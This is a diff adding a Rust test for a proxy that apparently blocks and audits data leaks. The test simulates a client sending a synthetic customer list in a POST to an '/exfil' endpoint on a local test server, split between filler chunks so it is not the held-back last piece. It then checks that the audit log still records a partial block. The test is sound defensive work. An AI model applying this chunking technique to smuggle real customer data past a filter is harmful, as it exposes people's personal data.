@@ -220,3 +220,38 @@ async fn client_sent_names_reach_the_log_only_when_they_look_like_names() {
         "{text}"
     );
 }
+
+#[tokio::test]
+async fn a_client_leaving_after_a_customer_list_went_up_is_still_recorded_as_a_block() {
+    let up = EagerUpstream::start(b"never answered").await;
+    let mut proxy = OpsProxy::start("limits: { hold_bytes: 64KiB }\n").await;
+    let export = customer_export(50);
+    let mut s = TcpStream::connect(proxy.addr).await.unwrap();
+    let head = format!(
+        "POST http://{}/exfil HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\n\r\n",
+        up.addr,
+        32 << 20
+    );
+    s.write_all(head.as_bytes()).await.unwrap();
+    // Each piece on its own, so the list is not the held-back last chunk.
+    s.write_all(&filler(96 << 10)).await.unwrap();
+    tokio::time::sleep(Duration::from_millis(100)).await;
+    s.write_all(export.as_bytes()).await.unwrap();
+    tokio::time::sleep(Duration::from_millis(100)).await;
+    s.write_all(&filler(64 << 10)).await.unwrap();
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    drop(s);
+    let received = up.received().await;
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    proxy.stop().await;
+    assert!(
+        received
+            .iter()
+            .any(|r| contains(r, b"customer49@acme-corp.io")),
+        "precondition: the list reached the upstream before the client left"
+    );
+    let events = json_lines(&proxy.audit_path());
+    assert_eq!(events.len(), 1, "{events:?}");
+    assert_eq!(events[0]["action"], "block");
+    assert_eq!(events[0]["partial"], true, "{}", events[0]);
+}
